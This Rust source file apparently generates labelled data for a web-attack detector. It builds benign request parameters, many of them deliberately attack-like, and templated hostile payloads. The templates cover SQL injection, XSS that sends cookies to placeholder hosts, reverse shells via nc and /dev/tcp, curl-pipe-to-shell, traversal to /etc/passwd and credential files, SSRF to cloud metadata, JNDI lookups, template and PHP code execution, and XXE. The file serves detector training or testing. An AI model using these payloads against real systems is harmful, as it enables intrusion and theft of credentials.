//! Request parameters of honest clients, made by ourselves: names, addresses, prose, code-like searches, JSON, tokens, links.
//! What quiets false alarms is variety, most of all in what looks like an attack and is none.

use crate::random::Random;
use crate::text::words;

/// Changes whenever what is generated changes.
pub const VERSION: u32 = 2;

struct Lists {
    english: Vec<&'static str>,
    european: Vec<&'static str>,
    names: Vec<&'static str>,
    places: Vec<&'static str>,
    hosts: Vec<&'static str>,
}

impl Lists {
    fn new() -> Self {
        let split = |list: &'static str| list.split_whitespace().collect();
        Self {
            english: split(words::ENGLISH),
            european: split(words::EUROPEAN),
            names: split(words::NAMES),
            places: split(words::PLACES),
            hosts: split(words::HOSTS),
        }
    }
}

fn pick<'a>(random: &mut Random, list: &[&'a str]) -> &'a str {
    list.get(random.below(list.len())).copied().unwrap_or("")
}

fn letters(random: &mut Random, alphabet: &[u8], length: usize) -> String {
    (0..length).filter_map(|_| alphabet.get(random.below(alphabet.len())).map(|byte| char::from(*byte))).collect()
}

fn title(word: &str) -> String {
    let mut letters = word.chars();
    letters.next().map(|first| first.to_ascii_uppercase()).into_iter().chain(letters).collect()
}

const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const BASE64_URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const HEX: &[u8] = b"0123456789abcdef";

/// Names of parameters.
const KEYS: &[&str] = &[
    "q",
    "query",
    "search",
    "s",
    "id",
    "page",
    "p",
    "name",
    "user",
    "username",
    "email",
    "lang",
    "locale",
    "sort",
    "order",
    "filter",
    "limit",
    "offset",
    "token",
    "session",
    "sid",
    "csrf_token",
    "redirect",
    "url",
    "next",
    "return_to",
    "ref",
    "utm_source",
    "utm_campaign",
    "category",
    "cat",
    "tag",
    "type",
    "format",
    "callback",
    "date",
    "from",
    "to",
    "start",
    "end",
    "file",
    "path",
    "title",
    "comment",
    "message",
    "body",
    "text",
    "address",
    "city",
    "zip",
    "phone",
    "color",
    "size",
    "price",
    "min",
    "max",
    "width",
    "height",
    "v",
    "version",
    "ts",
    "_",
    "key",
    "value",
    "data",
    "state",
    "code",
    "select",
    "where",
    "action",
    "cmd",
    "view",
    "mode",
    "password",
];

/// Sentences with words that interpreters know too.
const TRICKY: &[&str] = &[
    "select the best option from the list below",
    "please update my order and delete the old one",
    "union of workers and students",
    "drop table tennis club",
    "where is the table from the order",
    "and or not",
    "either this or that",
    "how to insert into a group",
    "what does ls -la do",
    "cat food and dog food",
    "the id is null",
    "like it or not",
    "having fun or not having fun",
    "create a new user account",
    "order by phone or by mail",
    "group by group discussion",
    "exec summary",
    "cast and crew",
    "limit 10 items per order",
    "set the table for 2",
    "between 5 and 10 people",
    "count on me",
    "sleep well",
    "union jack",
    "join us at 5",
    "from paris to london and back",
    "it's a trap",
    "o'reilly & sons",
    "rock 'n' roll",
    "don't or won't",
    "women's shoes",
    "5' 11\" tall",
    "13\" laptop",
    "C++ or C#",
    "AT&T",
    "Q&A",
    "R&D",
    "a/b testing",
    "24/7 support",
    "and/or",
    "50% off",
    "100% cotton",
    "$5 - $10",
    "price > 100",
    "x < y",
    "I <3 you",
    ":-) ;-)",
    "(see below)",
    "[draft] notes",
    "{placeholder}",
    "foo_bar",
    "#hashtag",
    "@someone",
    "1+1=2",
    "a=b",
    "e=mc^2",
    "2 * 3 = 6",
    "y = f(x)",
    "f(x) = x^2 + 1",
    "p < 0.05",
    "C:\\Users\\Public\\Documents",
    "/home/user/photos",
    "../images/logo.png",
    "index.html#top",
    "javascript tutorial",
    "java script or python",
    "php function list",
    "alert settings",
    "document title",
    "window cleaning",
    "cookie recipes",
    "script writing course",
    "bash bish bosh",
    "ping pong",
    "how to ping a server",
    "wget vs curl",
    "sql select statement example",
    "html img tag onload",
    "error: unexpected token",
    "NullPointerException in main",
    "site:example.com -test \"exact phrase\"",
    "(cats OR dogs) AND NOT birds",
    "title:\"data mining\" author:smith",
    "name=*",
    "*.pdf",
    "SELECT COUNT(*) explained",
    "what is a left join",
    "<b>bold</b> text",
    "<p>Hello <em>world</em></p>",
    "**bold** and _italic_",
    "`code` in markdown",
    "- item one\n- item two",
    "see http://example.com/a?b=c",
    "T-shirt (L), 2x",
    "v1.2.3-beta",
    "#ff00aa",
    "rgb(255, 0, 0)",
    "calc(100% - 20px)",
    "12:30 -- 13:45",
    "10.0.0.1",
    "2001:db8::1",
    "+44 20 7946 0958",
    "(555) 123-4567",
    "; thanks",
    "yes; no; maybe",
    "one|two|three",
    "a,b,c",
    "---",
    "...",
    "!!!",
    "???",
    "N/A",
    "null",
    "undefined",
    "NaN",
    "true",
    "false",
    "-1",
    "0",
    "1e5",
    "0x1F",
    "007",
    "test",
    "admin",
    "root cause",
    "password reset",
    "system settings",
    "file upload",
    "function keys",
];

/// Values, each with its own way of being written.
fn value(lists: &Lists, random: &mut Random) -> String {
    let word = |random: &mut Random| {
        if random.below(3) == 0 { pick(random, &lists.european) } else { pick(random, &lists.english) }
    };
    let name = |random: &mut Random| title(pick(random, &lists.names));
    match random.below(32) {
        0..=1 => random.below(10usize.pow(1 + random.clone().below(9) as u32)).to_string(),
        2 => word(random).to_owned(),
        3..=5 => (0..2 + random.below(9)).map(|_| word(random)).collect::<Vec<_>>().join(" "),
        6 => format!("{} {}", name(random), name(random)),
        7 => {
            let glue = pick(random, &["O'", "D'", "Mc", "van der ", "de la ", "L'"]);
            format!("{} {glue}{}", name(random), name(random))
        }
        8 => format!(
            "{}.{}{}@{}.{}",
            pick(random, &lists.names),
            pick(random, &lists.names),
            random.below(99),
            word(random),
            pick(random, &["com", "org", "de", "co.uk"])
        ),
        9..=12 => pick(random, TRICKY).to_owned(),
        13 => format!("{} {}", pick(random, TRICKY), word(random)),
        14 => format!("{} {} {}", word(random), pick(random, TRICKY), word(random)),
        15 => {
            let length = 16 + random.below(80);
            letters(random, BASE64, length) + pick(random, &["", "=", "=="])
        }
        16 => format!(
            "eyJ{}.eyJ{}.{}",
            letters(random, BASE64_URL, 30),
            letters(random, BASE64_URL, 80),
            letters(random, BASE64_URL, 43)
        ),
        17 => {
            let length = 8 << random.below(4);
            letters(random, HEX, length)
        }
        18 => [8, 4, 4, 4, 12].map(|length| letters(random, HEX, length)).join("-"),
        19 => link(lists, random),
        20 => json(lists, random, 2),
        21 => format!(
            "20{:02}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
            random.below(30),
            1 + random.below(12),
            1 + random.below(28),
            random.below(24),
            random.below(60),
            random.below(60)
        ),
        22 => format!(
            "/{}/{}/{}.{}",
            word(random),
            word(random),
            word(random),
            pick(random, &["html", "php", "js", "png", "pdf", "css"])
        ),
        23 => format!(
            "{} {}, {} {}",
            1 + random.below(300),
            title(word(random)),
            random.below(99_999),
            title(pick(random, &lists.places))
        ),
        24 => format!("{} eq '{}' and {} gt {}", word(random), word(random), word(random), random.below(100)),
        25 => format!("{{ {} {{ {} {} }} }}", word(random), word(random), word(random)),
        26 => format!(
            "[{}]",
            (0..1 + random.below(5)).map(|_| random.below(1000).to_string()).collect::<Vec<_>>().join(",")
        ),
        27 => agent(random),
        28 => format!(
            "<p>{} {} <a href=\"{}\">{}</a></p>",
            title(word(random)),
            word(random),
            link(lists, random),
            word(random)
        ),
        29 => international(random),
        30 => {
            format!("<?xml version=\"1.0\"?><{0}><{1}>{2}</{1}></{0}>", word(random), word(random), random.below(1000))
        }
        _ => format!("{}_{}[{}]", word(random), word(random), random.below(20)),
    }
}

fn link(lists: &Lists, random: &mut Random) -> String {
    let (host, word) = (pick(random, &lists.hosts), pick(random, &lists.english));
    let tail = match random.below(4) {
        0 => String::new(),
        1 => format!("{}/{}.html", pick(random, &lists.english), pick(random, &lists.english)),
        2 => format!("{}?id={}&lang=en", pick(random, &lists.english), random.below(9999)),
        _ => format!("{}/?q={}#top", pick(random, &lists.english), pick(random, &lists.english)),
    };
    format!("https://{host}.{word}.com/{tail}")
}

fn json(lists: &Lists, random: &mut Random, depth: usize) -> String {
    let fields: Vec<String> = (0..1 + random.below(4))
        .map(|_| {
            let inner = match random.below(5) {
                0 => random.below(10_000).to_string(),
                1 => "true".to_owned(),
                2 if depth > 0 => json(lists, random, depth - 1),
                3 => "null".to_owned(),
                _ => format!("\"{} {}\"", pick(random, &lists.english), pick(random, &lists.names)),
            };
            format!("\"{}\":{inner}", pick(random, KEYS))
        })
        .collect();
    format!("{{{}}}", fields.join(","))
}

fn agent(random: &mut Random) -> String {
    let system = pick(
        random,
        &[
            "Windows NT 10.0; Win64; x64",
            "X11; Linux x86_64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "iPhone; CPU iPhone OS 17_1 like Mac OS X",
        ],
    );
    match random.below(4) {
        0 => format!("curl/8.{}.{}", random.below(10), random.below(5)),
        1 => format!("python-requests/2.{}.0", random.below(32)),
        _ => format!(
            "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
            90 + random.below(50)
        ),
    }
}

fn international(random: &mut Random) -> String {
    let scripts =
        [(0x430u32, 32usize), (0x5d0, 27), (0x627, 36), (0x3042, 80), (0x4e00, 6000), (0xac00, 8000), (0xe0, 30)];
    let (first, count) = scripts.get(random.below(scripts.len())).copied().unwrap_or((0x430, 32));
    (0..2 + random.below(20))
        .filter_map(
            |_| if random.below(7) == 0 { Some(' ') } else { char::from_u32(first + random.below(count) as u32) },
        )
        .collect()
}

/// Percent encoding as a form does it.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => char::from(byte).to_string(),
            b' ' => "+".to_owned(),
            _ => format!("%{byte:02X}"),
        })
        .collect()
}

/// Values alone, and whole request targets, forms, bodies, cookies.
pub fn benign(count: usize, random: &mut Random) -> Vec<String> {
    let lists = Lists::new();
    (0..count)
        .map(|_| {
            let pair = |random: &mut Random| {
                let text = value(&lists, random);
                let text = match random.below(8) {
                    0 => text,
                    1 => encoded(&encoded(&text)),
                    _ => encoded(&text),
                };
                format!("{}={text}", pick(random, KEYS))
            };
            let pairs =
                |random: &mut Random| (0..1 + random.below(6)).map(|_| pair(random)).collect::<Vec<_>>().join("&");
            match random.below(12) {
                0..=5 => value(&lists, random),
                6..=7 => format!("/{}?{}", pick(random, &lists.english), pairs(random)),
                8 => pairs(random),
                9 => format!("/{}/{}/{}", pick(random, &lists.hosts), pick(random, &lists.english), random.below(1000)),
                10 => json(&lists, random, 3),
                _ => (0..1 + random.below(4))
                    .map(|_| format!("{}={}", pick(random, KEYS), letters(random, BASE64_URL, 22)))
                    .collect::<Vec<_>>()
                    .join("; "),
            }
        })
        .collect()
}

/// Places in attacks where something else stands each time.
fn filled(pattern: &str, lists: &Lists, random: &mut Random) -> String {
    let mut out = String::new();
    let mut rest = pattern;
    while let Some((before, after)) = rest.split_once('~') {
        out.push_str(before);
        let mut letters = after.chars();
        match letters.next() {
            Some('n') => out.push_str(&random.below(9999).to_string()),
            Some('w') => out.push_str(pick(random, &lists.english)),
            Some('q') => out.push_str(pick(random, &["'", "\"", "')", "\")", "'))", ""])),
            Some('c') => out.push_str(pick(random, &["--", "#", "-- -", "/*", ""])),
            Some('s') => out.push_str(pick(random, &[";", "|", "||", "&&", "&", "\n", "`", "$("])),
            Some('t') => out.push_str(pick(random, TABLES)),
            Some('x') => out.push_str(pick(random, COMMANDS)),
            Some('f') => out.push_str(pick(random, FILES)),
            Some('u') => out.push_str(&"../".repeat(1 + random.below(9))),
            Some('j') => out.push_str(pick(random, SCRIPTS)),
            Some('e') => out.push_str(pick(random, EVENTS)),
            Some('g') => out.push_str(pick(random, TAGS)),
            Some('h') => out.push_str(pick(random, INSIDE)),
            Some('p') => out.push_str(pick(random, PHP)),
            Some('k') => out.push_str(pick(random, JAVA)),
            _ => {}
        }
        rest = letters.as_str();
    }
    out + rest
}

const TABLES: &[&str] = &[
    "users",
    "information_schema.tables",
    "admin",
    "mysql.user",
    "sysobjects",
    "all_tables",
    "pg_shadow",
    "sqlite_master",
    "accounts",
    "members",
];
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "cat /etc/passwd",
    "ls -la",
    "uname -a",
    "wget http://~h/x.sh",
    "curl -s http://~h/a|sh",
    "ping -c 3 127.0.0.1",
    "sleep 5",
    "nc -e /bin/sh ~h 4444",
    "bash -i >& /dev/tcp/~h/443 0>&1",
    "python -c 'import os'",
    "perl -e 'print 1'",
    "dir c:\\",
    "type c:\\windows\\win.ini",
    "powershell -enc ~n",
    "net user",
    "ipconfig /all",
    "ifconfig",
    "netstat -an",
    "ps aux",
    "echo ~n",
    "rm -rf /tmp/x",
    "chmod 777 x",
    "/bin/sh",
    "/usr/bin/env",
    "nslookup ~w.com",
    "cat${IFS}/etc/hosts",
    "c\\at /et\\c/passwd",
    "tar czf x /etc",
    "busybox sh",
    "php -r 'system(1);'",
    "ruby -e 'exec 1'",
    "awk 'BEGIN{}'",
];
const FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "boot.ini",
    "proc/self/environ",
    "var/log/apache2/access.log",
    ".env",
    ".git/config",
    ".htaccess",
    "wp-config.php",
    "web.config",
    "web-inf/web.xml",
    "id_rsa",
    ".ssh/authorized_keys",
    ".aws/credentials",
    "etc/hosts",
    "winnt/system32/cmd.exe",
    ".bash_history",
    "composer.json",
    "docker-compose.yml",
    "php.ini",
    "my.cnf",
    ".svn/entries",
    "settings.php",
    "config.inc.php",
    "database.yml",
];
const SCRIPTS: &[&str] = &[
    "alert(~n)",
    "alert('xss')",
    "alert(document.cookie)",
    "confirm(1)",
    "prompt(document.domain)",
    "eval(atob('~w'))",
    "document.location='//~w.com/?'+document.cookie",
    "fetch('//~w.com')",
    "top['al'+'ert'](1)",
    "alert`1`",
    "window.onerror=alert;throw 1",
    "self[`alert`](1)",
    "[].constructor.constructor('alert(1)')()",
    "document.write('x')",
    "new Function('alert(1)')()",
    "string.fromcharcode(88,83)",
    "setTimeout('alert(1)')",
    "import('//~w.com/x.js')",
    "localStorage.getItem('token')",
    "$.getScript('//~w.com')",
];
const EVENTS: &[&str] = &[
    "onerror",
    "onload",
    "onmouseover",
    "onclick",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onblur",
    "onwheel",
    "oninput",
];
const TAGS: &[&str] = &[
    "img", "svg", "body", "iframe", "details", "video", "input", "a", "div", "marquee", "object", "embed", "form",
    "math", "style", "isindex", "audio", "button",
];
const INSIDE: &[&str] = &[
    "127.0.0.1",
    "localhost",
    "169.254.169.254/latest/meta-data/",
    "metadata.google.internal",
    "10.0.0.5:8080",
    "[::1]",
    "0x7f000001",
    "2130706433",
    "host.docker.internal",
    "192.168.0.1",
    "0.0.0.0",
    "~w.burpcollaborator.net",
    "~w.oastify.com",
];
const PHP: &[&str] = &[
    "phpinfo()",
    "system('id')",
    "eval($_POST['~w'])",
    "passthru($_GET['c'])",
    "shell_exec('ls')",
    "assert($_REQUEST[1])",
    "base64_decode('~w')",
    "file_get_contents('/etc/passwd')",
    "$_SERVER['DOCUMENT_ROOT']",
    "call_user_func('system','id')",
    "include('http://~w.com/x.txt')",
    "create_function('','~w')",
    "proc_open('sh',[],$p)",
    "$GLOBALS['x']",
    "ini_set('~w',1)",
    "array_map('assert',$_POST)",
    "preg_replace('/x/e','system(1)','')",
    "move_uploaded_file($a,$b)",
    "curl_exec($ch)",
    "gzinflate(str_rot13('~w'))",
    "chr(~n).chr(~n)",
];
const JAVA: &[&str] = &[
    "java.lang.Runtime",
    "getRuntime().exec('id')",
    "java.lang.ProcessBuilder",
    "T(java.lang.Runtime)",
    "class.module.classLoader.resources",
    "java.io.ObjectInputStream",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "com.sun.rowset.JdbcRowSetImpl",
    "java.net.URLClassLoader",
    "#_memberAccess['allowStaticMethodAccess']=true",
    "rO0ABXNyABdqYXZh",
    "ysoserial.payloads",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "java.util.PriorityQueue",
    "freemarker.template.utility.Execute",
    "instantiatetransformer",
    "chainedtransformer",
];

/// Kinds of attack, each with ways to write it; `~` and a letter stand for what [`filled`] fills in.
const ATTACKS: &[&[&str]] = &[
    &[
        "~n~q or ~n=~n~c",
        "~q or '~w'='~w",
        "~q union select null,null,~n from ~t~c",
        "~n~q union all select ~w,password from ~t~c",
        "1; drop table ~t~c",
        "~n~q and sleep(5)~c",
        "~q;waitfor delay '0:0:5'~c",
        "~n and (select count(*) from ~t)>0",
        "~n~q order by ~n~c",
        "~w'~c",
        "~q and extractvalue(1,concat(0x7e,version()))~c",
        "~n~q having 1=1~c",
        "~q or 1=1 limit 1~c",
        "~n~q and ascii(substr((select user()),1,1))>~n",
        "1 procedure analyse()",
        "~q || (select '~w') || '",
        "~q or ~w like '%",
        "-~n~q union select load_file('/etc/passwd')~c",
        "~n;exec xp_cmdshell('dir')~c",
        "case when ~n=~n then ~w else 0 end",
        "~q and ~n in (~n,~n)~c",
        "~n or benchmark(1000000,md5(1))",
        "select * from ~t where id=~n",
        "insert into ~t values (~n,'~w')",
        "update ~t set password='~w'",
        "delete from ~t where 1",
        "~q is not null~c",
        "~q not regexp '~w",
        "~n div ~n",
        "@@version",
        "~q xor '~n",
        "select if(~n,sleep(3),0)",
        "~q and '~n'<'~n",
    ],
    &[
        "<script>~j</script>",
        "\"><script>~j</script>",
        "<~g ~e=~j>",
        "'\"><~g src=x ~e=~j>",
        "<~g/~e=\"~j\">",
        "javascript:~j",
        "\" ~e=\"~j",
        "' autofocus ~e='~j",
        "<~g style=\"width:expression(~j)\">",
        "<script src=//~w.com/x.js></script>",
        "<iframe src=\"javascript:~j\">",
        "</title><script>~j</script>",
        "';~j;//",
        "\"-~j-\"",
        "<svg><script>~j</script>",
        "<a href=\"data:text/html;base64,~w\">",
        "<meta http-equiv=refresh content=0;url=javascript:~j>",
        "<style>@import 'http://~w.com/x.css';</style>",
        "<base href=//~w.com>",
        "<x ~e=~j>~w",
        "<embed src=//~w.com/x.swf>",
        "vbscript:msgbox(1)",
        "<link rel=stylesheet href=//~w.com>",
        "{{constructor.constructor('~j')()}}",
    ],
    &[
        "~s~x",
        "~w~s~x",
        "~w~s ~x",
        "~n~s~x~s",
        "$(~x)",
        "`~x`",
        "() { :; }; ~x",
        "~w%0a~x",
        "| ~x",
        "~x",
        "~w;~x #",
        "a=$(~x)",
        "{~x}",
        "&~x&",
        "~w' ~s ~x ~s '",
        "~w\"~s~x~s\"",
        "${@}~x",
        "/???/c?t /???/p??s??",
        "=cmd|' /c calc'!a1",
    ],
    &[
        "~u~f",
        "/~u~f",
        "....//....//~f",
        "..\\..\\~f",
        "/~f",
        "file:///~f",
        "~w/~u~f",
        "~u~f%00.jpg",
        "php://filter/convert.base64-encode/resource=~f",
        "c:\\~f",
        "/./././~f",
        "..;/~f",
        "~f",
        "..%5c..%5c~f",
        "/%c0%ae%c0%ae/~f",
    ],
    &[
        "http://~h/",
        "https://~h/~w",
        "gopher://~h:6379/_~w",
        "dict://~h:11211/",
        "//~h/~w",
        "ftp://~w@~h/",
        "http://~w@~h",
        "jar:http://~h!/",
        "phar://~w.jpg",
        "expect://id",
        "data://text/plain;base64,~w",
        "http://~w.com/shell.txt?",
    ],
    &[
        "<?php ~p; ?>",
        "<?=~p?>",
        "~p;",
        "${~p}",
        "~w=~p",
        "O:~n:\"~w\":1:{s:1:\"a\";i:1;}",
        "a:1:{i:0;O:8:\"stdClass\":0:{}}",
        "');~p;//",
        "{${~p}}",
        "<script language=php>~p</script>",
        "\"]);~p;//",
        "~p",
    ],
    &[
        "${jndi:ldap://~w.com/a}",
        "${${lower:j}ndi:rmi://~h/x}",
        "${${::-j}${::-n}di:dns://~w.com}",
        "%{(~k)}",
        "${~k}",
        "~k",
        "~w=~k",
        "<~k attribute=\"x\">~w</~k>",
        "#{~k}",
        "*{~k}",
        "__${~k}__::.x",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "<object class=\"~k\">",
    ],
    &[
        "{{~n*~n}}",
        "${~n*~n}",
        "<%= ~n*~n %>",
        "#{~n*~n}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__}}",
        "{%import os%}{{os.popen('~x').read()}}",
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
        "{{self._TemplateReference__context}}",
        "#set($x='')#set($r=$x.class)",
        "{php}~p{/php}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "require('child_process').exec('~x')",
        "process.mainModule.require('fs')",
        "__proto__[~w]=~n",
        "constructor.prototype.~w=1",
        "_$$ND_FUNC$$_function(){~j}()",
        "global.process.binding('spawn_sync')",
    ],
    &[
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///~f\">]><x>&a;</x>",
        "<!ENTITY % x SYSTEM \"http://~h/x.dtd\"> %x;",
        "<!--#exec cmd=\"~x\"-->",
        "<!--#include virtual=\"/~f\"-->",
        "*)(uid=*))(|(uid=*",
        "*)(&",
        "admin)(|(password=*)",
        "' or count(//*)=1 or ''='",
        "{\"$ne\":null}",
        "[$gt]=",
        "~w[$regex]=.*",
        "';return true;var a='",
        "{\"$where\":\"sleep(100)\"}",
        "' || 'a'=='a",
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
    ],
    &[
        "~w\r\nset-cookie: ~w=~n",
        "~w%0d%0aLocation:%20http://~w.com",
        "~w\r\n\r\n<html>",
        "get / http/1.1\r\nhost: ~h",
        "~w\r\ncontent-length: 0",
        "to: x\nbcc: ~w@~w.com",
    ],
];

/// Attacks of many kinds, and as many and half as many benign texts; the style of each, and for benign ones none of them.
pub fn beside(hostile: usize, random: &mut Random) -> Vec<(String, bool, u32)> {
    let mut all: Vec<(String, bool, u32)> =
        attacks(hostile, random).into_iter().map(|(text, style)| (text, true, style)).collect();
    let benign = benign(hostile + hostile / 2, random);
    all.extend((ATTACKS.len() as u32 + 1..).zip(benign).map(|(group, text)| (text, false, group)));
    all
}

/// Attacks, each with the number of its kind.
pub fn attacks(count: usize, random: &mut Random) -> Vec<(String, u32)> {
    let lists = Lists::new();
    (0..count)
        .map(|at| {
            let kind = at % ATTACKS.len();
            let ways = ATTACKS.get(kind).copied().unwrap_or(&[]);
            // Filled three times: commands hold hosts, hosts hold words.
            let text = (0..3).fold(pick(random, ways).to_owned(), |text, _| filled(&text, &lists, random));
            let text = match random.below(8) {
                0..=1 => encoded(&text),
                2 => encoded(&encoded(&text)),
                _ => text,
            };
            let text = match random.below(6) {
                0 => format!("{}={text}", pick(random, KEYS)),
                1 => format!("/{}?{}={}", pick(random, &lists.english), pick(random, KEYS), encoded(&text)),
                2 => {
                    format!("{}={}&{}={text}", pick(random, KEYS), encoded(&value(&lists, random)), pick(random, KEYS))
                }
                _ => text,
            };
            (text, kind as u32)
        })
        .collect()
}
